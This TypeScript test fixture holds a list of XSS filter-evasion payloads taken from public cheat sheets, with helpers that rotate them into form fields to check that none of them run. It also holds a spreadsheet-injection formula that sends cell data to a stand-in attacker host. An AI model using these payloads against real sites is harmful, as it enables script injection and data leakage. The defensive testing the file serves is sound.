/**
 * Known cross-site scripting payloads (after the OWASP XSS filter evasion cheat sheet and PortSwigger's
 * XSS cheat sheet): script tags, event handlers, URL schemes, attribute and context breaks, SVG/MathML,
 * encodings and template-injection forms. Each tries to call alert(); none may ever run.
 */
export const XSS_PAYLOADS: readonly string[] = [
	'<script>alert(1)</script>',
	'<SCRIPT SRC=//xss.example/x.js></SCRIPT>',
	'<img src=x onerror=alert(1)>',
	'<img src="x" onerror="alert(2)">',
	'<IMG SRC=javascript:alert(3)>',
	'<svg onload=alert(4)>',
	'<svg><script>alert(5)</script></svg>',
	'<svg><animate onbegin=alert(6) attributeName=x dur=1s>',
	'<body onload=alert(7)>',
	'<iframe src="javascript:alert(8)"></iframe>',
	'<iframe srcdoc="<script>alert(9)</script>"></iframe>',
	'<object data="javascript:alert(10)"></object>',
	'<embed src="javascript:alert(11)">',
	'<a href="javascript:alert(12)">klicka</a>',
	'<a href="JaVaScRiPt:alert(13)">x</a>',
	'<a href="&#106;avascript:alert(14)">x</a>',
	'<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxNSk8L3NjcmlwdD4=">x</a>',
	'<details open ontoggle=alert(16)>',
	'<input autofocus onfocus=alert(17)>',
	'<select autofocus onfocus=alert(18)></select>',
	'<textarea autofocus onfocus=alert(19)></textarea>',
	'<video><source onerror=alert(20)></video>',
	'<audio src=x onerror=alert(21)>',
	'<marquee onstart=alert(22)>x</marquee>',
	'<div style="background:url(javascript:alert(23))">',
	'<style>@import "javascript:alert(24)";</style>',
	'<link rel=stylesheet href="javascript:alert(25)">',
	'<meta http-equiv="refresh" content="0;url=javascript:alert(26)">',
	'<base href="javascript:alert(27)//">',
	'<form action="javascript:alert(28)"><button>x</button></form>',
	'<button formaction="javascript:alert(29)">x</button>',
	'<math><mtext><table><mglyph><style><img src=x onerror=alert(30)>',
	'"><script>alert(31)</script>',
	"'><img src=x onerror=alert(32)>",
	'" onmouseover="alert(33)" x="',
	"' onfocus='alert(34)' autofocus='",
	'</title><script>alert(35)</script>',
	'</textarea><script>alert(36)</script>',
	'</script><script>alert(37)</script>',
	'<!--<img src="--><img src=x onerror=alert(38)//">',
	'<scr<script>ipt>alert(39)</scr</script>ipt>',
	'<<script>alert(40);//<</script>',
	'<img """><script>alert(41)</script>">',
	'<img src=`x`onerror=alert(42)>',
	'<img src=x:alert(43) onerror=eval(src)>',
	'<svg/onload=alert(44)//',
	'<x onclick=alert(45)>klicka</x>',
	'%3Cscript%3Ealert(46)%3C/script%3E',
	'&lt;script&gt;alert(47)&lt;/script&gt;',
	'&#60;script&#62;alert(48)&#60;/script&#62;',
	'\\u003cscript\\u003ealert(49)\\u003c/script\\u003e',
	'{{constructor.constructor("alert(50)")()}}',
	'${alert(51)}',
	'{@html "<img src=x onerror=alert(52)>"}',
	'javascript:alert(53)',
	'<noscript><p title="</noscript><img src=x onerror=alert(54)>">',
	'<template><img src=x onerror=alert(55)></template>',
	'<isindex type=image src=1 onerror=alert(56)>'
];

/** The payloads joined into pieces of at most `max` characters, each holding whole payloads. */
export function payloadBatches(max: number): string[] {
	const batches: string[] = [];
	let current = '';
	for (const p of XSS_PAYLOADS) {
		if (current && current.length + 1 + p.length > max) {
			batches.push(current);
			current = '';
		}
		current = current ? `${current} ${p}` : p;
	}
	if (current) batches.push(current);
	return batches;
}

export const ALL_PAYLOADS = XSS_PAYLOADS.join(' ');

/**
 * The payloads most likely to break out of where text is put (a tag, an attribute, a textarea, an inline
 * script, a Svelte template): every field that gets a share of the corpus gets these first.
 */
export const NASTIEST: readonly string[] = [
	'<script>alert(1)</script>',
	'<img src=x onerror=alert(1)>',
	'"><script>alert(31)</script>',
	'</textarea><script>alert(36)</script>',
	'</script><script>alert(37)</script>',
	'{@html "<img src=x onerror=alert(52)>"}'
];

/** A spreadsheet formula; in CSV and XLSX exports it must stay text (the formula guard adds an apostrophe). */
export const FORMULA = '=HYPERLINK("https://angripare.example/?d="&A1,"Klicka")';

/**
 * Hands out the corpus in rotation, one share per field: as many of the nastiest payloads as fit first (all
 * of them in a long field), then as many of the others as fit in the field's limit, each share starting
 * where the last stopped, so that all payloads are rendered somewhere after a few fields. `unused()` tells
 * which have not been handed out yet.
 */
export function payloadRotation() {
	const rest = XSS_PAYLOADS.filter((p) => !NASTIEST.includes(p));
	const used = new Set<string>();
	let nextNasty = 0;
	let next = 0;
	const take = (list: readonly string[], from: number, parts: string[], max: number) => {
		let taken = 0;
		while (taken < list.length) {
			const p = list[(from + taken) % list.length];
			if ([...parts, p].join(' ').length > max) break;
			parts.push(p);
			used.add(p);
			taken++;
		}
		return taken;
	};
	return {
		share(max: number, prefix = ''): string {
			const parts = prefix ? [prefix] : [];
			nextNasty += take(NASTIEST, nextNasty, parts, max);
			next += take(rest, next, parts, max);
			if (parts.length === (prefix ? 1 : 0)) throw new Error(`no payload fits in ${max} characters`);
			return parts.join(' ');
		},
		unused: () => XSS_PAYLOADS.filter((p) => !used.has(p))
	};
}
